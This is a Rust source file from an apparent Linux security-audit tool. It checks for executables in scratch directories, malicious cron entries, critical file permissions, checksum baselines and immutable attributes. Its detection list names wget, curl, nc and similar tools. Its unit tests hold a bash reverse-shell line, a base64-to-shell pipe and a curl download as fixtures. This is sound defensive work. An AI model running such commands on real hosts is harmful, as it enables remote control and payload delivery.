// SPDX-License-Identifier: AGPL-3.0-or-later
// Copyright (c) 2025-2026 Vigil Project

//! Filesystem checks: scratch-directory executables, cron entries, critical
//! file integrity, immutable attributes.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use async_trait::async_trait;
use tracing::debug;

use super::Check;
use crate::collect::cron as cron_collect;
use crate::context::AuditContext;
use crate::evidence::{file_evidence, sha256_file, EvidenceBuilder};
use crate::exec::{command_available, CancelToken};
use crate::report::{CheckDetail, CheckResult, CronJob, Evidence, RiskLevel, Status};

/// Stop reporting after this many scratch-directory findings.
const MAX_SUSPICIOUS_FILES: usize = 50;

/// How deep the scratch-directory walk descends.
const MAX_WALK_DEPTH: usize = 3;

/// `suspicious_files`: executables in world-writable scratch directories,
/// each with path and SHA-256 evidence.
pub struct SuspiciousFiles;

#[async_trait]
impl Check for SuspiciousFiles {
    fn category(&self) -> &'static str {
        "suspicious_files"
    }

    async fn run(&self, ctx: &AuditContext) -> CheckResult {
        let mut details = Vec::new();
        for dir in &ctx.config.files.scan_dirs {
            let high_risk = dir.starts_with("/dev/shm");
            walk_for_executables(
                Path::new(dir),
                0,
                &ctx.cancel,
                high_risk,
                &mut details,
            );
            if details.len() >= MAX_SUSPICIOUS_FILES {
                break;
            }
        }

        if details.is_empty() {
            CheckResult::new(
                self.category(),
                Status::Pass,
                "no executables found in scratch directories",
            )
        } else {
            let message = format!("{} executable(s) in scratch directories", details.len());
            CheckResult::with_details(self.category(), &message, details)
        }
    }
}

fn walk_for_executables(
    dir: &Path,
    depth: usize,
    cancel: &CancelToken,
    high_risk: bool,
    details: &mut Vec<CheckDetail>,
) {
    if depth > MAX_WALK_DEPTH || details.len() >= MAX_SUSPICIOUS_FILES {
        return;
    }
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        if cancel.is_cancelled() || details.len() >= MAX_SUSPICIOUS_FILES {
            return;
        }
        let path = entry.path();
        let Ok(file_type) = entry.file_type() else {
            continue;
        };
        if file_type.is_symlink() {
            continue;
        }
        if file_type.is_dir() {
            walk_for_executables(&path, depth + 1, cancel, high_risk, details);
            continue;
        }
        if !file_type.is_file() {
            continue;
        }
        let Ok(metadata) = entry.metadata() else {
            continue;
        };
        if metadata.permissions().mode() & 0o111 == 0 {
            continue;
        }

        let risk = if high_risk { RiskLevel::High } else { RiskLevel::Medium };
        let evidence = EvidenceBuilder::new(risk).hashed_file(&path).build();
        details.push(CheckDetail {
            name: format!("executable:{}", path.display()),
            status: Status::Warn,
            message: format!("executable file in scratch directory: {}", path.display()),
            evidence,
        });
    }
}

/// Commands that download and run code; a failure when piped through a
/// shell, a warning otherwise.
const DOWNLOAD_TOOLS: &[&str] = &["wget ", "curl ", "nc ", "ncat ", "python -c", "python3 -c"];

/// `cron_jobs`: suspicious entries across system and user crontabs.
pub struct CronJobs;

#[async_trait]
impl Check for CronJobs {
    fn category(&self) -> &'static str {
        "cron_jobs"
    }

    async fn run(&self, ctx: &AuditContext) -> CheckResult {
        if !Path::new("/etc/crontab").exists() && !command_available("crontab") {
            return CheckResult::new(self.category(), Status::Skip, "cron not present on this host");
        }
        let jobs = cron_collect::collect(ctx).await;
        let details = classify_cron_jobs(&jobs);
        if details.is_empty() {
            let message = format!("{} cron entry(ies), nothing suspicious", jobs.len());
            CheckResult::new(self.category(), Status::Pass, &message)
        } else {
            let message = format!("{} suspicious cron entry(ies)", details.len());
            CheckResult::with_details(self.category(), &message, details)
        }
    }
}

pub fn classify_cron_jobs(jobs: &[CronJob]) -> Vec<CheckDetail> {
    let mut details = Vec::new();
    for (idx, job) in jobs.iter().enumerate() {
        let command = &job.command;
        let reverse_shell = command.contains("/dev/tcp")
            || (command.contains("base64") && (command.contains("| sh") || command.contains("|sh") || command.contains("| bash")));
        let downloader = DOWNLOAD_TOOLS.iter().any(|tool| command.contains(tool));

        if !reverse_shell && !downloader {
            continue;
        }

        let line = format!("{} {} {}", job.schedule, job.user, job.command);
        let mut builder = EvidenceBuilder::new(if reverse_shell { RiskLevel::High } else { RiskLevel::Medium })
            .process_tree(vec![line]);
        if job.source.starts_with('/') {
            builder = builder.file_path(job.source.clone());
        }
        details.push(CheckDetail {
            name: format!("cron_entry_{idx}"),
            status: if reverse_shell { Status::Fail } else { Status::Warn },
            message: if reverse_shell {
                format!("cron entry with reverse-shell pattern ({})", job.source)
            } else {
                format!("cron entry downloads and runs remote content ({})", job.source)
            },
            evidence: builder.build(),
        });
    }
    details
}

/// Critical files with the loosest acceptable permission bits.
const CRITICAL_FILE_MODES: &[(&str, u32)] = &[
    ("/etc/passwd", 0o644),
    ("/etc/shadow", 0o640),
    ("/etc/sudoers", 0o440),
    ("/etc/ssh/sshd_config", 0o644),
];

/// `file_integrity`: critical file ownership/permissions plus an optional
/// SHA-256 baseline.
pub struct FileIntegrity;

#[async_trait]
impl Check for FileIntegrity {
    fn category(&self) -> &'static str {
        "file_integrity"
    }

    async fn run(&self, ctx: &AuditContext) -> CheckResult {
        let mut details = Vec::new();

        for &(path, max_mode) in CRITICAL_FILE_MODES {
            // Metadata works even where the content is unreadable, which is
            // all we need for /etc/shadow without root.
            let metadata = match std::fs::metadata(path) {
                Ok(m) => m,
                Err(e) => {
                    debug!(path, error = %e, "critical file not stat-able");
                    continue;
                }
            };
            details.extend(check_file_metadata(path, metadata.mode() & 0o777, metadata.uid(), max_mode));
        }

        let baseline_path = &ctx.config.files.baseline_path;
        if let Ok(content) = std::fs::read_to_string(baseline_path) {
            for (expected, path) in parse_baseline(&content) {
                if ctx.cancel.is_cancelled() {
                    break;
                }
                match sha256_file(Path::new(&path)) {
                    Ok(actual) if actual == expected => {}
                    Ok(actual) => {
                        details.push(CheckDetail {
                            name: format!("baseline:{path}"),
                            status: Status::Fail,
                            message: format!("{path} does not match its recorded checksum"),
                            evidence: Some(Evidence {
                                file_path: Some(path.clone()),
                                file_hash: Some(actual),
                                timestamp: None,
                                network_conn: None,
                                process_tree: None,
                                risk_level: RiskLevel::High,
                            }),
                        });
                    }
                    Err(e) => {
                        debug!(path, error = %e, "cannot hash baseline entry");
                        details.push(CheckDetail::new(
                            &format!("baseline:{path}"),
                            Status::Warn,
                            &format!("cannot verify {path} against baseline"),
                        ));
                    }
                }
            }
        }

        if details.is_empty() {
            CheckResult::new(self.category(), Status::Pass, "critical file metadata intact")
        } else {
            let message = format!("{} file integrity finding(s)", details.len());
            CheckResult::with_details(self.category(), &message, details)
        }
    }
}

/// Findings for one critical file's mode and owner.
pub fn check_file_metadata(path: &str, mode: u32, uid: u32, max_mode: u32) -> Vec<CheckDetail> {
    let mut details = Vec::new();
    if mode & !max_mode != 0 {
        details.push(CheckDetail::with_evidence(
            &format!("perms:{path}"),
            Status::Fail,
            &format!("{path} has mode {mode:o}, expected at most {max_mode:o}"),
            file_evidence(path, RiskLevel::High),
        ));
    }
    if uid != 0 {
        details.push(CheckDetail::with_evidence(
            &format!("owner:{path}"),
            Status::Fail,
            &format!("{path} is owned by uid {uid}, expected root"),
            file_evidence(path, RiskLevel::High),
        ));
    }
    details
}

/// Parse `sha256  path` baseline lines (two-space separated).
pub fn parse_baseline(content: &str) -> Vec<(String, String)> {
    content
        .lines()
        .filter_map(|line| {
            let (hash, path) = line.split_once("  ")?;
            let hash = hash.trim();
            if hash.len() != 64 {
                return None;
            }
            Some((hash.to_string(), path.trim().to_string()))
        })
        .collect()
}

/// Config files where an immutable/append-only attribute is unexpected.
const ATTR_WATCHED_PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/ssh/sshd_config",
    "/etc/sudoers",
    "/etc/crontab",
    "/etc/hosts",
];

/// `immutable_files`: unexpected `i`/`a` attributes on standard config.
pub struct ImmutableFiles;

#[async_trait]
impl Check for ImmutableFiles {
    fn category(&self) -> &'static str {
        "immutable_files"
    }

    async fn run(&self, ctx: &AuditContext) -> CheckResult {
        if !command_available("lsattr") {
            return CheckResult::new(self.category(), Status::Skip, "lsattr not available");
        }

        let mut details = Vec::new();
        for &path in ATTR_WATCHED_PATHS {
            if ctx.cancel.is_cancelled() {
                return CheckResult::new(self.category(), Status::Skip, "cancelled");
            }
            if !Path::new(path).exists() {
                continue;
            }
            match ctx.executor.execute("lsattr", &[path]).await {
                Ok(output) => {
                    if let Some(attrs) = parse_lsattr_attrs(&output) {
                        if has_unexpected_attr(&attrs) {
                            details.push(CheckDetail::with_evidence(
                                &format!("attrs:{path}"),
                                Status::Warn,
                                &format!("{path} carries unexpected attributes ({attrs})"),
                                file_evidence(path, RiskLevel::Medium),
                            ));
                        }
                    }
                }
                Err(e) => debug!(path, error = %e, "lsattr probe failed"),
            }
        }

        if details.is_empty() {
            CheckResult::new(self.category(), Status::Pass, "no unexpected immutable attributes")
        } else {
            let message = format!("{} file(s) with unexpected attributes", details.len());
            CheckResult::with_details(self.category(), &message, details)
        }
    }
}

/// Attribute column of the first `lsattr` output line.
pub fn parse_lsattr_attrs(output: &str) -> Option<String> {
    output
        .lines()
        .next()?
        .split_whitespace()
        .next()
        .map(String::from)
}

/// `i` (immutable) and `a` (append-only) are unexpected on standard config.
pub fn has_unexpected_attr(attrs: &str) -> bool {
    attrs.contains('i') || attrs.contains('a')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cron_job(command: &str) -> CronJob {
        CronJob {
            source: "/etc/crontab".to_string(),
            user: "root".to_string(),
            schedule: "* * * * *".to_string(),
            command: command.to_string(),
        }
    }

    #[test]
    fn test_classify_cron_reverse_shell_fails() {
        let jobs = [cron_job("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")];
        let details = classify_cron_jobs(&jobs);
        assert_eq!(details.len(), 1);
        assert_eq!(details[0].status, Status::Fail);
        assert_eq!(details[0].evidence.as_ref().unwrap().risk_level, RiskLevel::High);
    }

    #[test]
    fn test_classify_cron_base64_pipe_fails() {
        let jobs = [cron_job("echo aGk= | base64 -d | sh")];
        let details = classify_cron_jobs(&jobs);
        assert_eq!(details[0].status, Status::Fail);
    }

    #[test]
    fn test_classify_cron_downloader_warns() {
        let jobs = [cron_job("curl -s http://203.0.113.66/u.sh -o /tmp/u.sh")];
        let details = classify_cron_jobs(&jobs);
        assert_eq!(details.len(), 1);
        assert_eq!(details[0].status, Status::Warn);
    }

    #[test]
    fn test_classify_cron_normal_entries_quiet() {
        let jobs = [
            cron_job("cd / && run-parts --report /etc/cron.hourly"),
            cron_job("/usr/bin/certbot renew --quiet"),
        ];
        assert!(classify_cron_jobs(&jobs).is_empty());
    }

    #[test]
    fn test_check_file_metadata_loose_perms() {
        let details = check_file_metadata("/etc/shadow", 0o644, 0, 0o640);
        assert_eq!(details.len(), 1);
        assert_eq!(details[0].status, Status::Fail);
        assert!(details[0].name.starts_with("perms:"));
    }

    #[test]
    fn test_check_file_metadata_wrong_owner() {
        let details = check_file_metadata("/etc/passwd", 0o644, 1000, 0o644);
        assert_eq!(details.len(), 1);
        assert!(details[0].name.starts_with("owner:"));
    }

    #[test]
    fn test_check_file_metadata_ok() {
        assert!(check_file_metadata("/etc/passwd", 0o644, 0, 0o644).is_empty());
        assert!(check_file_metadata("/etc/shadow", 0o600, 0, 0o640).is_empty());
    }

    #[test]
    fn test_parse_baseline() {
        let content = "\
b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9  /usr/bin/sshd
not-a-hash  /etc/passwd
";
        let entries = parse_baseline(content);
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0].1, "/usr/bin/sshd");
    }

    #[test]
    fn test_parse_lsattr() {
        let output = "----i---------e------- /etc/passwd\n";
        let attrs = parse_lsattr_attrs(output).unwrap();
        assert!(has_unexpected_attr(&attrs));

        let output = "--------------e------- /etc/passwd\n";
        let attrs = parse_lsattr_attrs(output).unwrap();
        assert!(!has_unexpected_attr(&attrs));
    }

    #[test]
    fn test_walk_finds_executables() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let exe = dir.path().join("dropper");
        std::fs::write(&exe, "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(dir.path().join("notes.txt"), "plain data").unwrap();

        let mut details = Vec::new();
        walk_for_executables(dir.path(), 0, &CancelToken::default(), false, &mut details);
        assert_eq!(details.len(), 1);
        assert_eq!(details[0].status, Status::Warn);
        let evidence = details[0].evidence.as_ref().unwrap();
        assert!(evidence.file_path.as_deref().unwrap().ends_with("dropper"));
        assert_eq!(evidence.file_hash.as_ref().unwrap().len(), 64);
    }

    #[test]
    fn test_walk_respects_depth_and_subdirs() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let nested = dir.path().join("a/b");
        std::fs::create_dir_all(&nested).unwrap();
        let exe = nested.join("payload");
        std::fs::write(&exe, "x").unwrap();
        std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o700)).unwrap();

        let mut details = Vec::new();
        walk_for_executables(dir.path(), 0, &CancelToken::default(), true, &mut details);
        assert_eq!(details.len(), 1);
        assert_eq!(details[0].evidence.as_ref().unwrap().risk_level, RiskLevel::High);
    }
}
